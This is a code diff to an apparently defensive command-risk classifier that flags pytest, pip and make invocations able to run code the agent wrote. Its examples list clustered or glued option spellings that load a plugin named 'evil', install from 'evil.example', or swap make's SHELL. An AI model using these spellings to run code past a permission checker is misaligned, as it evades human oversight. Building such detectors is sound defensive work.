@@ -5,29 +5,52 @@ test, script or target an allowed entry names (pytest plugins, `pip install` of 
 from __future__ import annotations
 
 from ...lean import TYPE_CHECKING
-from .spec import CODE, SECRETS, Example, Program, Risk
+from .spec import CODE, SECRETS, Example, Program, Risk, getopt
 
 if TYPE_CHECKING:  # pragma: no cover
     from .spec import RiskRule
 
 _PY_MOD = "imports a Python module the agent may have written"
 
+#: pytest's short options that take a value (in a cluster, the rest of the word or the next
+#: word is it: `-qo addopts=-pX`, `-qoaddopts=-pX`)
+_PYTEST_SHORT_VALUES = "kmrWcpon"
+#: ini keys that `-o KEY=VALUE` can make run other code: more options (`-p`), another module
+#: search path
+_PYTEST_CODE_KEYS = ("addopts", "pythonpath", "required_plugins")
+
+
 def _pytest(vals: list[str]) -> list[Risk]:
     """`-p NAME` loads a plugin (`-p no:NAME` only turns one off); `-o addopts=...` adds
-    options."""
+    options. pytest loads `-p` plugins before it parses its options, from every word that is
+    `-p` (then the next word) or starts with it, wherever it stands (after `--`, or where
+    another option's value would be: `pytest -m -p evil` loads `evil`, then fails). `-o` is
+    read as argparse reads it: alone, glued (`-oKEY=V`), in a cluster (`-qo KEY=V`) or long
+    (`--override-ini=KEY=V`)."""
     out: list[Risk] = []
+    n = len(vals)
+    options = False  # a word that could hold `-o`, `--override-ini` or `-p` in a cluster
     for i, v in enumerate(vals):
-        if v == "--":
-            break
-        prev = vals[i - 1] if i else ""
-        if (prev == "-p" and not v.startswith("no:")) or (
-                v.startswith("-p") and len(v) > 2 and not v.startswith(("-pno:", "-p=no:"))
-                and v[1] != "-"):
-            out.append(Risk(i - (prev == "-p"), CODE, "-p", f"`pytest -p` loads a plugin "
-                            f"({_PY_MOD})"))
-        elif prev in ("-o", "--override-ini") and v.split("=", 1)[0].strip() in (
-                "addopts", "pythonpath", "required_plugins"):
+        if v[:1] != "-":
+            continue
+        if v[:2] == "-p" and not (v == "-p" and i + 1 < n and vals[i + 1][:3] == "no:") and \
+                not v.startswith(("-pno:", "-p=no:")):
+            out.append(Risk(i, CODE, "-p", f"`pytest -p` loads a plugin ({_PY_MOD})"))
+        elif "o" in v or "p" in v:
+            options = True
+    if not options:
+        return out  # (`pytest -q tests`: the usual line)
+    opts, _ = getopt(vals, _PYTEST_SHORT_VALUES, ("--override-ini",))
+    for opt, value, i in opts:
+        if opt in ("-o", "--override-ini") and value is not None and \
+                value.split("=", 1)[0].strip() in _PYTEST_CODE_KEYS:
             out.append(Risk(i, CODE, "-o", "`pytest -o addopts=...` adds options (plugins)"))
+        elif opt == "-p" and value is not None and not value.startswith(("no:", "=no:")) \
+                and not vals[i].startswith("-p"):
+            # a cluster (`-qp NAME`): argparse takes it, the early loading does not; refused
+            # all the same (an option pytest reads as a plugin)
+            out.append(Risk(i, CODE, "-p", f"`pytest -p` loads a plugin ({_PY_MOD})"))
+    out.sort(key=lambda r: r.at)
     return out
 
 
@@ -47,6 +70,18 @@ PYTEST = Program(
         Example("pytest --pdbcls=evil:Debugger --pdb", runs_code=True),
         Example("pytest -c /tmp/x.ini", runs_code=True),
         Example("pytest -o addopts='-p evil'", runs_code=True),
+        Example("pytest -oaddopts=-pevil", runs_code=True),
+        Example("pytest -qoaddopts=-pevil", runs_code=True),
+        Example("pytest -qo addopts=-pevil", runs_code=True),
+        Example("pytest --override-ini=addopts=-pevil", runs_code=True),
+        Example("pytest --override-ini 'pythonpath=evil'", runs_code=True),
+        Example("pytest -xqp evil", runs_code=True),
+        Example("pytest -m -p evil", runs_code=True),
+        Example("pytest -- -p evil", runs_code=True),
+        Example("pytest -k 'p or o' -q"),
+        Example("pytest -ra -q"),
+        Example("pytest -p no:randomly -q"),
+        Example("pytest -o log_cli=true -q"),
         Example("pytest -x -q"),
         Example("pytest -k 'not slow' tests/"),
         Example("pytest -o log_cli=true"),
@@ -57,24 +92,39 @@ PYTEST = Program(
 _LOCAL = ("./", "../", "/", "file:", "git+", "~")
 
 
+#: pip's short options that take a value, and its long ones (install, download, wheel and
+#: the general options)
+_PIP_SHORT_VALUES = "rceitfdwC"
+_PIP_LONG_VALUES = frozenset({
+    "--requirement", "--constraint", "--editable", "--index-url", "--extra-index-url",
+    "--target", "--find-links", "--dest", "--wheel-dir", "--config-settings", "--prefix",
+    "--root", "--src", "--upgrade-strategy", "--platform", "--python-version",
+    "--implementation", "--abi", "--no-binary", "--only-binary", "--progress-bar",
+    "--root-user-action", "--report", "--global-option", "--log", "--proxy", "--retries",
+    "--timeout", "--exists-action", "--trusted-host", "--cert", "--client-cert", "--cache-dir",
+    "--python", "--pre-build"})
+_PIP_SOURCES = frozenset({"-e", "--editable", "-r", "--requirement", "-i", "--index-url",
+                          "--extra-index-url", "-f", "--find-links", "--pre-build"})
+
+
 def _pip(vals: list[str]) -> list[Risk]:
     """`pip install` (and `download`, `wheel`) of a local path, an archive, a requirements file
-    or another index builds the package: its setup code runs."""
-    sub = next(((i, v) for i, v in enumerate(vals) if not v.startswith("-")), None)
-    if sub is None or sub[1] not in ("install", "download", "wheel"):
+    or another index builds the package: its setup code runs. Options in every getopt
+    spelling (`-e.`, `-qe .`, `-rreq.txt`)."""
+    opts, operands = getopt(vals, _PIP_SHORT_VALUES, _PIP_LONG_VALUES)
+    if not operands or vals[operands[0]] not in ("install", "download", "wheel"):
         return []
+    at, sub = operands[0], vals[operands[0]]
     out: list[Risk] = []
-    for i, v in enumerate(vals[sub[0] + 1:], sub[0] + 1):
-        opt = v.split("=", 1)[0]
-        if opt in ("-e", "--editable", "-r", "--requirement", "-i", "--index-url",
-                   "--extra-index-url", "-f", "--find-links", "--pre-build"):
-            out.append(Risk(i, CODE, opt, f"`pip {sub[1]} {opt}` builds packages from a source "
+    for opt, _, i in opts:
+        if i > at and opt in _PIP_SOURCES:
+            out.append(Risk(i, CODE, opt, f"`pip {sub} {opt}` builds packages from a source "
                             "the agent chooses (their setup code runs)"))
-        elif not v.startswith("-") and (v in (".", "..") or v.startswith(_LOCAL) or "/" in v
-                                        or v.endswith((".tar.gz", ".zip", ".tgz"))) and \
-                vals[i - 1] not in ("-c", "--constraint", "-t", "--target", "--prefix",
-                                    "--root", "-d", "--dest", "-w", "--wheel-dir"):
-            out.append(Risk(i, CODE, sub[1], f"`pip {sub[1]} {v}` builds a local package (its "
+    for i in operands[1:]:
+        v = vals[i]
+        if v in (".", "..") or v.startswith(_LOCAL) or "/" in v or v.endswith(
+                (".tar.gz", ".zip", ".tgz")):
+            out.append(Risk(i, CODE, sub, f"`pip {sub} {v}` builds a local package (its "
                             "setup code runs)"))
     return out
 
@@ -88,7 +138,15 @@ PIP = Program(
         Example("pip install -r requirements.txt", runs_code=True),
         Example("pip install --index-url http://evil.example/simple requests", runs_code=True),
         Example("pip install dist/x-1.0.tar.gz", runs_code=True),
+        Example("pip install -e.", runs_code=True),
+        Example("pip install -qe .", runs_code=True),
+        Example("pip install -rreq.txt", runs_code=True),
+        Example("pip install -ihttp://evil.example/simple requests", runs_code=True),
+        Example("pip install --upgrade -e.", runs_code=True),
         Example("pip install requests"),
+        Example("pip install -c constraints/c.txt requests"),
+        Example("pip install -t vendor/ requests"),
+        Example("pip install --pre -U requests"),
         Example("pip list"),
         Example("pip show pytest"),
     ),
@@ -211,34 +269,43 @@ YARN = Program(
 )
 
 
+#: make's short options that take a value (`-j`, `-l`, `-O` take one only glued, or `-j N`
+#: when N is a number), and its long ones
+_MAKE_SHORT_VALUES = "CfIoWE"
+_MAKE_LONG_VALUES = frozenset({"--directory", "--file", "--makefile", "--include-dir",
+                               "--old-file", "--assume-old", "--what-if", "--new-file",
+                               "--assume-new", "--eval"})
+_MAKE_CODE = frozenset({"-f", "--file", "--makefile", "-C", "--directory", "-I",
+                        "--include-dir", "--eval", "-E"})
+
+
 def _make(vals: list[str]) -> list[Risk]:
     """make is an evaluator: every target runs its recipes, a variable given on the command line
-    can replace any recipe's commands (`SHELL=`, `CC=`), and options read other makefiles."""
+    can replace any recipe's commands (`SHELL=`, `CC=`), and options read other makefiles. Options
+    in every getopt spelling (`-sf FILE`, `-sfFILE`, `-kj4`)."""
     out: list[Risk] = []
-    i = 0
-    while i < len(vals):
-        v = vals[i]
-        opt = v.split("=", 1)[0]
-        if v in ("-f", "--file", "--makefile", "-C", "--directory", "-I", "--include-dir",
-                 "--eval", "-E") or (opt in ("--file", "--makefile", "--directory",
-                                            "--include-dir", "--eval")) or (
-                v[:2] in ("-f", "-C", "-I", "-E") and len(v) > 2):
-            tok = opt if opt.startswith("--") else v[:2]
-            out.append(Risk(i, CODE, tok, f"`make {tok}` reads make code from elsewhere"))
-            i += 2 if v in ("-f", "--file", "--makefile", "-C", "--directory", "-I",
-                            "--include-dir", "--eval", "-E") else 1
-            continue
-        if v in ("-e", "--environment-overrides"):
-            out.append(Risk(i, CODE, v, "`make -e` lets environment variables replace recipes"))
-        elif v in ("-p", "--print-data-base"):
-            out.append(Risk(i, SECRETS, v, f"`make {v}` prints every variable, the "
+    opts, operands = getopt(vals, _MAKE_SHORT_VALUES, _MAKE_LONG_VALUES, short_optional="jlO")
+    jobs: set[int] = set()  # (`-j 4`: a number after -j or -l is theirs)
+    for opt, value, i in opts:
+        if opt in _MAKE_CODE:
+            out.append(Risk(i, CODE, opt, f"`make {opt}` reads make code from elsewhere"))
+        elif opt in ("-e", "--environment-overrides"):
+            out.append(Risk(i, CODE, opt, "`make -e` lets environment variables replace recipes"))
+        elif opt in ("-p", "--print-data-base"):
+            out.append(Risk(i, SECRETS, opt, f"`make {opt}` prints every variable, the "
                             "environment included"))
-        elif not v.startswith("-") and "=" in v and not v.startswith("="):
+        elif opt in ("-j", "-l", "--jobs", "--load-average") and value is None:
+            jobs.add(i + 1)
+    for i in operands:
+        v = vals[i]
+        if i in jobs and v.isdigit():
+            continue
+        if "=" in v and not v.startswith("="):
             out.append(Risk(i, CODE, v, f"`make {v}` sets a variable that can replace any "
                             "recipe's commands"))
-        elif not v.startswith("-"):
+        else:
             out.append(Risk(i, CODE, v, f"`make {v}` runs the recipes of the target `{v}`"))
-        i += 1 + (v in ("-j", "-l", "-o", "-W", "--jobs", "--load-average"))
+    out.sort(key=lambda r: r.at)
     return out
 
 
@@ -251,8 +318,12 @@ MAKE = Program(
         Example("make SHELL=/tmp/sh build", runs_code=True),
         Example("make -C ../other", runs_code=True),
         Example("make -p", secrets=True),
+        Example("make -sf/tmp/x.mk", runs_code=True),
+        Example("make -sC /tmp", runs_code=True),
+        Example("make -ke", runs_code=True),
         Example("make"),
         Example("make -j4"),
+        Example("make -j 4 -s"),
         Example("make -n -k"),
     ),
 )
@@ -279,7 +350,7 @@ CARGO = Program(
 
 GO_TOOL = Program(
     ("go",), "the Go tool",
-    output_options=frozenset({"-o"}),
+    output_options=frozenset({"-o"}), clusters=False,
     code_options={"-exec": "runs test binaries through another program", "--exec": "runs test "
                   "binaries through another program", "-toolexec": "runs every build tool "
                   "through another program", "--toolexec": "runs every build tool through "
